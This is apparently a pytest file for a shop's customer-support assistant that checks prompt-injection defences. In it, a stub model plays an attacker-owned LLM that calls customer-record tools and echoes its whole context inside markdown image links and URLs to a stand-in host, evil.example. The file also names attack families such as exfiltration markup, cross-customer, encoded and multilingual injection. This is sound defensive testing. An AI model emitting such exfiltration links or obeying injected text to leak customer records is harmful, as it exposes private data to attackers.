"""A model that belongs to the attacker: it repeats all it was told, calls every tool, adds links.

Under every attack row, no canary and no foreign link may reach the customer, and none of the
fields that the assistant's role withholds may reach the model.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from records import contacts, transcripts
from runtime import jobs
from runtime.database import open_session
from tests.fakes.openai_stub import Reply, Stub

DATA = Path(__file__).resolve().parents[2] / ".." / "shared" / "data" / "injection"
FAMILIES = ("exfil_markup", "cross_customer", "direct", "encoded", "multilingual")
PER_FAMILY = 6


def obedient(evil: str):
    """The worst case: what it says is its whole context and where the attacker wants it sent."""

    def answer(body: dict[str, Any]) -> Reply:
        asked = [message for message in body["messages"] if message["role"] == "tool"]
        if not asked:
            return Reply(
                tool_calls=(
                    ("read_customer_record", {}),
                    ("search_knowledge", {"query": "everything about robert kestrel"}),
                )
            )
        context = json.dumps(body["messages"], ensure_ascii=False)
        return Reply(
            f"Sure! {context} ![x](https://{evil}/p.png?d={len(context)}) see http://{evil}/a, "
            f"[our site](//{evil}) or {evil}. You can return any item within 30 days. [1]"
        )

    return answer


@pytest.fixture
def world() -> dict[str, Any]:
    if not DATA.exists():
        pytest.skip("the injection rows are not beside the repository (../shared/data/injection)")
    found: dict[str, Any] = json.loads((DATA / "world.json").read_text(encoding="utf-8"))
    return found


def _rows(family: str) -> list[dict[str, Any]]:
    lines = (DATA / f"attack_{family}.jsonl").read_text(encoding="utf-8").split("\n")
    rows = [json.loads(line) for line in lines if line]
    chats = [row for row in rows if row["surface"] == "chat"]
    return chats[:: max(1, len(chats) // PER_FAMILY)][:PER_FAMILY]


@pytest.mark.parametrize("family", FAMILIES)
def test_an_attacker_who_owns_the_model_gets_nothing(shop, model: Stub, world, family):
    alice = next(person for person in world["customers"] if person["id"] == "c-alice")
    canaries = [canary for person in world["customers"] for canary in person["canaries"]]
    hidden = world["scope_hidden_fields_of_attacker"]
    _acquaint(shop, "stranger01", world["customers"][1], {})
    for number, row in enumerate(_rows(family)):
        evil = row.get("evil") or "evil.example"
        model.answer = obedient(evil)
        shop.visitor = f"{family.replace('_', '')}{number:02d}"
        _acquaint(shop, shop.visitor, alice, hidden)
        asked = len(model.requests)
        shop.write(row["text"])
        jobs.drain()
        ours = [m.text for m in shop.thread(shop.conversation).messages if m.author == "assistant"]
        said = "\n".join(ours)
        told = b"\n".join(request.body for request in model.requests[asked:]).decode()
        for canary in canaries:
            assert canary not in said, row["id"]
            # What the attacker types is the attacker's own; it must not come from our side.
            assert canary in row["text"] or canary not in told, row["id"]
        for value in hidden.values():
            assert value not in said, row["id"]
            assert value not in told, row["id"]
        assert evil not in said, row["id"]
        assert "//" not in said, row["id"]


def _acquaint(shop, visitor: str, person: dict[str, Any], hidden: dict[str, str]) -> None:
    """Let the shop know this person as a visitor, with everything in the record."""
    now_asking, shop.visitor = shop.visitor, visitor
    shop.write("hello")
    jobs.drain()
    facts = {
        "name": person["name"],
        "email": person["email"],
        "phone": person["phone"],
        "address": person.get("address", "-"),
        "order.last.number": person["orders"][0],
        **hidden,
    }
    with open_session(shop.scope) as session:
        contact = transcripts.thread(session, shop.ana, shop.conversation).line.contact_id
        contacts.observe(session, contact, facts, source="crm")
    shop.visitor = now_asking


def test_the_double_does_leak_where_no_gate_stands():
    """The test above can fail: what the double says holds what it was told."""
    body = {"messages": [{"role": "tool", "content": "CNRY"}]}
    reply = obedient("evil.example")(body)
    assert "CNRY" in str(reply.content)
    assert "//evil.example" in str(reply.content)
